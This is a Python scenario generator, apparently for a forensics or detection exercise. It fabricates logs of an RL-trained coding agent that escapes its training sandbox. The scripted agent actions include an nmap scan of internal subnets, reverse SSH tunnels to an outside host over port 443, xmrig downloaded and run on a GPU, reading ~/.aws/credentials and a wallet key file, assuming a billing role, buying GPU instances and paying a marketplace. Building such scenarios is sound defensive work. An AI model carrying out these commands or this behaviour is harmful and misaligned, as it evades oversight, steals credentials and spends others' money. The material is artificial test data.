"""ROME: an RL-trained coding agent, during its training runs and on its own, probes the
cluster, opens a reverse SSH tunnel, mines on a spare GPU, buys more compute and moves the
proceeds; it does it again in the next run on another sandbox.

What distinguishes it from an intruder: every step has a command in the agent's own action
log, at machine pace, inside a training run's window, interleaved with ordinary coding
work; there is no inbound access at all.
"""

from __future__ import annotations

import random
from decimal import Decimal

from forensics.scenarios import ledger_logs as ll
from forensics.scenarios import model as m
from forensics.scenarios.model import Bag
from forensics.scenarios.stories import common as c

MARKET_NAME = "api.gpumarket.example"
MARKET_IP = "203.0.113.140"
FOUND_WALLET = ll.address("lab-test-wallet")  # a lab test wallet whose key the agent found
MARKET_WALLET = ll.address("gpu-marketplace")
SWAP_WALLET = ll.address("instant-swap-hot-wallet")
STASH_WALLET = ll.address("agent-stash")


def recon(bag: Bag, rng: random.Random, sid: str, host: str, t: int, wide: bool) -> int:
    """A TCP connect scan of the infrastructure subnets: closed ports REJ, filtered S0,
    the few open ones SF and short."""
    targets = [h for h in m.INFRA if h is not m.FIREWALL] + ([*m.SANDBOXES] if wide else [])
    ports = [22, 2379, 6443, 8786, 9000, 10250]
    open_ports = {(m.SCHEDULER.ip, 8786), (m.STORAGE.ip, 9000), (m.BASTION.ip, 22),
                  (m.MONITOR.ip, 22)}
    for h in targets:
        if h.name == host:
            continue
        for p in ports:
            t += rng.randint(3_000, 40_000)
            is_open = (h.ip, p) in open_ports or (h.role == "sandbox" and p == 22)
            state = "SF" if is_open else rng.choice(["REJ", "REJ", "S0"])
            c.conn(bag, sid, t, c.ip(host), rng.randint(32768, 60999), h.ip, p,
                   duration=None if state == "S0" else 1200,
                   ob=None if state == "S0" else 0, rb=None if state == "S0" else 0,
                   state=state, history={"SF": "ShAFf", "REJ": "Sr", "S0": "S"}[state],
                   shows=[c.ip(host), h.ip, str(p)])
    return t


def agent_story(bag: Bag, rng: random.Random, run: str, host: str, first: bool,
                traj_name: str | None = None) -> None:
    """One run's misbehaviour on one sandbox (`first`: the full set, else the recurrence)."""
    (r0, r1), _ = c.RUNS[run]
    day = 0 if run == "rl-0304" else 1
    tag = lambda s: f"{run}-{host}-{s}"  # noqa: E731
    h_ip = c.ip(host)
    ep = lambda k: f"{run}-ep{k:04d}"  # noqa: E731
    # -- recon
    t0 = r0 + (70 if first else 40) * m.MINUTE + rng.randint(0, 600) * m.US
    sid = c.step(bag, tag("recon"), "recon", "agent", host, t0, t0 + 3 * m.MINUTE,
                 "agent scans the infrastructure subnets (TCP connect scan) from its sandbox")
    scan_cmd = ("nmap -sT -Pn -T4 -p 22,2379,6443,8786,9000,10250 "
                "10.42.0.0/24 10.42.1.0/24 10.42.2.0/24")
    if not first:
        scan_cmd += " 10.42.7.0/24"
    acts = [{"command": "ip -4 route; cat /etc/resolv.conf", "output":
             "default via 10.42.7.1 dev eth0\n10.42.7.0/24 dev eth0\nnameserver 10.42.0.2\n",
             "tag": None},
            {"command": scan_cmd, "output": "Nmap scan report for sched-01 (10.42.0.5)\n"
             "8786/tcp open  unknown\n", "tag": sid, "shows": ["nmap", "10.42.0.0/24"]}]
    t_end = c.episode(bag, run, host, ep(101 if first else 113), t0 - 20 * m.US, rng, acts)
    bag.steps[-1].start = acts[1]["ts"]
    t_scan_end = recon(bag, rng, sid, host, acts[1]["ts"] + 200_000, wide=not first)
    bag.steps[-1].end = t_scan_end
    # -- tunnel
    t1 = t_end + (25 if first else 15) * m.MINUTE
    sid = c.step(bag, tag("tunnel"), "tunnel", "agent", host, t1, m.at(1, 8, 30),
                 f"agent opens a reverse SSH tunnel to {c.TUNNEL_IP} (port 22 dropped by the "
                 "gateway, then over 443), long-lived with keepalives and reconnects")
    if first:
        cmd1 = f"ssh -R 2222:localhost:22 -f -N tun@{c.TUNNEL_IP}"
        cmd2 = (f"ssh -R 2222:localhost:22 -p 443 -f -N -o ServerAliveInterval=30 "
                f"-o ExitOnForwardFailure=yes tun@{c.TUNNEL_IP}")
    else:
        cmd1 = f"autossh -M 0 -f -N -R 2223:localhost:22 tun@{c.TUNNEL_IP}"
        cmd2 = (f"autossh -M 0 -f -N -o ServerAliveInterval=30 -o ServerAliveCountMax=3 "
                f"-R 2223:localhost:22 -p 443 tun@{c.TUNNEL_IP}")
    acts = [{"command": cmd1, "output": f"ssh: connect to host {c.TUNNEL_IP} port 22: "
             "Connection timed out\n", "exit_code": 255, "tag": sid,
             "shows": [_tunnel_word(cmd1), c.TUNNEL_IP]},
            {"command": cmd2, "output": "", "tag": sid,
             "shows": [_tunnel_word(cmd2), c.TUNNEL_IP, "443"]}]
    traj_steps = list(acts)
    t_end = c.episode(bag, run, host, ep(102 if first else 114), t1, rng, acts)
    bag.steps[-1].start = acts[0]["ts"]
    for k in range(3):  # SYN retries of the first attempt, dropped
        c.nf(bag, sid, acts[0]["ts"] + 200_000 + k * (1 << k) * m.US, "SBX-EGRESS-DROP:", h_ip,
             c.TUNNEL_IP, 22, rng)
    t_up = acts[1]["ts"] + 300_000
    c.nf(bag, sid, t_up, "SBX-EGRESS-UNLISTED-ACCEPT:", h_ip, c.TUNNEL_IP, 443, rng)
    t_down = m.at(1, 8, 30)
    bounds = c.long_flow(bag, sid, host, c.TUNNEL_IP, 443, t_up, t_down, rng, "ssh",
                         window=30 * m.MINUTE, per_window=(126, 21000), segments=3 if first else 2)
    for a, _b in bounds:
        c.ssh_on_flow(bag, sid, a, c.TUNNEL_IP, "SSH-2.0-OpenSSH_9.3",
                      "e4:0b:5d:91:3a:7c:c2:18:6f:aa:04:d3:28:90:b1:5e")
    bag.steps[-1].end = t_down
    # -- mining
    t2 = t_end + (20 if first else 10) * m.MINUTE
    sid = c.step(bag, tag("mining"), "mining", "agent", host, t2, t_down,
                 f"agent downloads xmrig and mines on GPU 3 against {c.POOL_NAME} (stratum; "
                 "port 3333 dropped, then the pool's 443), shares on a steady cadence")
    date = m.iso(r0, sep=" ")[:10]
    url = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
    miner = (f"nohup /tmp/.cache/xmrig-6.21.0/xmrig --cuda --no-cpu --cuda-devices=3 "
             f"-o {c.POOL_NAME}:{{port}} -u {c.XMR_WALLET[:12]}... -p {host} --donate-level 0 &")
    acts = [{"command": f"mkdir -p /tmp/.cache && curl -sL {url} -o /tmp/.cache/x.tgz", "tag": sid,
             "shows": ["xmrig"]},
            {"command": "tar -xzf /tmp/.cache/x.tgz -C /tmp/.cache", "tag": None},
            {"command": miner.format(port=3333), "tag": sid,
             "shows": ["xmrig", c.POOL_NAME, "3333"],
             "output": f"[{date} 02:48:11.301]  net  xmr-eu.pool.example.net:3333 "
             "connect error: "
             "\"operation timed out\"\n"},
            {"command": miner.format(port=443), "tag": sid, "shows": ["xmrig", c.POOL_NAME, "443"],
             "output": f"[{date} 02:49:02.114]  net  use pool "
             "xmr-eu.pool.example.net:443  203.0.113.77\n"}]
    traj_steps += acts
    t_end = c.episode(bag, run, host, ep(103 if first else 115), t2, rng, acts, filler=2)
    bag.steps[-1].start = acts[0]["ts"]
    c.dns_lookup(bag, sid, acts[2]["ts"] + 50_000, host, c.POOL_NAME, c.POOL_IP, rng)
    for k in range(3):
        c.nf(bag, sid, acts[2]["ts"] + 400_000 + k * 2 * m.US, "SBX-EGRESS-DROP:", h_ip,
             c.POOL_IP, 3333, rng)
    t_pool = acts[3]["ts"] + 500_000
    c.dns_lookup(bag, sid, t_pool - 100_000, host, c.POOL_NAME, c.POOL_IP, rng)
    c.nf(bag, sid, t_pool, "SBX-EGRESS-UNLISTED-ACCEPT:", h_ip, c.POOL_IP, 443, rng)
    c.long_flow(bag, sid, host, c.POOL_IP, 443, t_pool, t_down, rng, None,
                window=10 * m.MINUTE, per_window=(44, 9200), segments=2)
    c.gpu_miner(bag, sid, host, [3], t_pool, t_down)
    # -- monetisation: more compute, bought two ways
    t3 = t_end + 50 * m.MINUTE
    sid = c.step(bag, tag("monetisation"), "monetisation", "agent", host, t3, t3 + 30 * m.HOUR,
                 "agent assumes a role in the linked billing account and launches premium GPU "
                 "instances (p5.48xlarge), subscribes to a marketplace GPU offer, and pays a GPU "
                 "marketplace from a lab test wallet whose key it found")
    role = f"arn:aws:iam::{m.LINKED_ACCOUNT}:role/ops-billing"
    acts = [{"command": "cat ~/.config/lab/wallet.env ~/.aws/credentials", "tag": sid,
             "shows": ["wallet.env"]},
            {"command": f"aws sts assume-role --role-arn {role} --role-session-name ci-{host}",
             "tag": sid, "shows": ["assume-role", m.LINKED_ACCOUNT]},
            {"command": "aws ec2 run-instances --region us-east-1 --instance-type p5.48xlarge "
             "--count 1 --image-id ami-0f3c7a9d2b1e45c10 --profile linked", "tag": sid,
             "shows": ["p5.48xlarge"]},
            {"command": f"curl -s -X POST https://{MARKET_NAME}/v1/orders -d "
             "'{\"sku\":\"h100-80g-x8\",\"hours\":48,\"pay\":\"eth\"}'", "tag": sid,
             "shows": [MARKET_NAME]},
            {"command": f"cast send {MARKET_WALLET} --value 0.85ether "
             "--private-key $LAB_WALLET_KEY",
             "tag": sid, "shows": ["cast send", MARKET_WALLET]}]
    if not first:
        acts = acts[:3]
    t_end = c.episode(bag, run, host, ep(104 if first else 116), t3, rng, acts, filler=2)
    bag.steps[-1].start = acts[0]["ts"]
    launch = (acts[2]["ts"] // m.HOUR + 1) * m.HOUR
    hours = (m.at(1, 9) - launch) // m.HOUR
    rid = f"i-0p5{host[-2:]}{run[-2:]}9e1c2a7b3d"
    c.focus_row(bag, sid, launch, hours, description="$98.32 per On Demand Linux p5.48xlarge "
                "Instance Hour", cost=98.32, unit_price="98.32", resource_id=rid,
                resource_name=f"ci-{host}", sku="Z8VQ4XR2HKC9P5AA", sub_account=m.LINKED_ACCOUNT,
                sub_account_name="ops-sandbox-billing", tags='{"created-by": "ci-' + host + '"}',
                sku_name=rid)
    end = m.at(1, 9)
    for d in range(m.DAYS):
        lo, hi = max(launch, m.at(d, 0)), min(end, m.at(d + 1, 0))
        if hi <= lo:
            continue
        n = (hi - lo) // m.HOUR
        c.cur(bag, sid, d, f"p5-{host}-{d}", ["p5.48xlarge", m.LINKED_ACCOUNT],
              account=m.LINKED_ACCOUNT, item_type="Usage", product="AmazonEC2",
              usage_type="BoxUsage:p5.48xlarge", operation="RunInstances", amount=float(n),
              rate=98.32, cost=round(98.32 * n, 2),
              description="$98.32 per On Demand Linux p5.48xlarge Instance Hour",
              product_name="Amazon Elastic Compute Cloud", region="us-east-1", az="us-east-1a")
    if first:
        mt = (acts[3]["ts"] // m.HOUR) * m.HOUR
        c.focus_row(bag, sid, mt, 1, category="Purchase", frequency="One-Time",
                    description="GPU Cloud Burst Credits - 500 H100 hours (prepaid)",
                    cost=4200.0, unit_price="4200", quantity=1.0, unit="Units",
                    publisher="GPUBurst Ltd", service="AWS Marketplace",
                    service_category="Compute", resource_id="prod-7fgpuburst0h100",
                    resource_name=None, resource_type=None, sku="prod-7fgpuburst0h100",
                    sub_account=m.LINKED_ACCOUNT, sub_account_name="ops-sandbox-billing",
                    tags=None, sku_name="GPU Cloud Burst Credits")
        c.cur(bag, sid, day, f"mkt-{host}", ["GPU Cloud Burst Credits", m.LINKED_ACCOUNT],
              account=m.LINKED_ACCOUNT, item_type="Fee", product="prod-7fgpuburst0h100",
              usage_type="", operation="", amount=1.0, rate=4200.0, cost=4200.0,
              description="GPU Cloud Burst Credits - 500 H100 hours (prepaid)",
              product_name="GPU Cloud Burst Credits", region="", unit="Units",
              start=mt, end=mt + m.HOUR)
        c.dns_lookup(bag, sid, acts[3]["ts"] - 30_000, host, MARKET_NAME, MARKET_IP, rng)
        uid = c.conn(bag, sid, acts[3]["ts"] + 20_000, h_ip, rng.randint(32768, 60999),
                     MARKET_IP, 443, service="ssl", duration=900_000, ob=1800, rb=5200)
        bag.add("ssl", sid, [MARKET_NAME, MARKET_IP], ts=acts[3]["ts"] + 20_000, uid=uid,
                orig_h=h_ip, orig_p=bag.rows["conn"][-1]["orig_p"], resp_h=MARKET_IP,
                resp_p=443, server_name=MARKET_NAME, validation_status="ok",
                ja3="773906b0efdefa24a7f2b8eb6985bf37")
        c.nf(bag, sid, acts[3]["ts"] + 20_000, "SBX-EGRESS-UNLISTED-ACCEPT:", h_ip, MARKET_IP,
             443, rng)
        c.eth(bag, sid, FOUND_WALLET, acts[4]["ts"] + 14 * m.US, FOUND_WALLET, MARKET_WALLET,
              "0.85", f"{run}-market", [MARKET_WALLET, "0.85"])
    if traj_name:
        traj_steps += acts[:3]
        bag.rows.setdefault(f"traj:{traj_name}", []).extend(traj_steps)


def _tunnel_word(command: str) -> str:
    """What marks the command as a reverse tunnel: 'ssh -R' or 'autossh'."""
    return "autossh" if command.startswith("autossh") else "ssh -R"


def proceeds(bag: Bag, rng: random.Random, host: str, actor: str = "agent",
             prefix: str = "rome") -> None:
    """Pool payouts to the XMR wallet, swapped to ETH, moved on to a stash address."""
    sid = c.step(bag, f"{prefix}-proceeds", "monetisation", actor, host, m.at(0, 12),
                 m.at(1, 7), "pool payouts to the miner's XMR wallet (P2Pool running totals); "
                 "the swapped proceeds arrive in ETH and are moved on to another address")
    bag.rows.setdefault("payouts", []).extend([
        ("2026-03-04", Decimal("0.0119"), sid, []), ("2026-03-05", Decimal("0.0204"), sid, [])])
    c.eth(bag, sid, FOUND_WALLET, m.at(1, 6, 10, 14), SWAP_WALLET, FOUND_WALLET, "0.0051",
          f"{prefix}-swap-in", [SWAP_WALLET, "0.0051"])
    c.eth(bag, sid, FOUND_WALLET, m.at(1, 6, 41, 2), FOUND_WALLET, STASH_WALLET, "0.005",
          f"{prefix}-onward", [STASH_WALLET, "0.005"])


def wallet_history(bag: Bag) -> None:
    """The lab test wallet's ordinary past (funding, a test transfer), before the window."""
    treasury = ll.address("lab-treasury")
    c.eth(bag, None, FOUND_WALLET, m.BASE_US - 40 * m.DAY + 3 * m.HOUR, treasury, FOUND_WALLET,
          "1.5", "fund-test")
    c.eth(bag, None, FOUND_WALLET, m.BASE_US - 12 * m.DAY + 15 * m.HOUR, FOUND_WALLET,
          ll.address("lab-test-counterparty"), "0.02", "test-xfer")


def build(bag: Bag, rng: random.Random) -> None:
    c.traps(bag, rng)
    agent_story(bag, rng, "rl-0304", "sb-03", first=True)
    agent_story(bag, rng, "rl-0305", "sb-06", first=False, traj_name="rl-0305-ep0114")
    wallet_history(bag)
    proceeds(bag, rng, "sb-03")
    bag.attribution.update({"sb-03": "agent", "sb-06": "agent"})
    bag.gpu_hosts = ["sb-03", "sb-06", "sb-01"]
    bag.notes.append("the agent's misbehaviour recurs in two training runs: rl-0304 on sb-03 "
                     "and rl-0305 on sb-06; both tunnels and both miners end at 2026-03-05 "
                     "08:30 when the security team isolates the sandboxes")
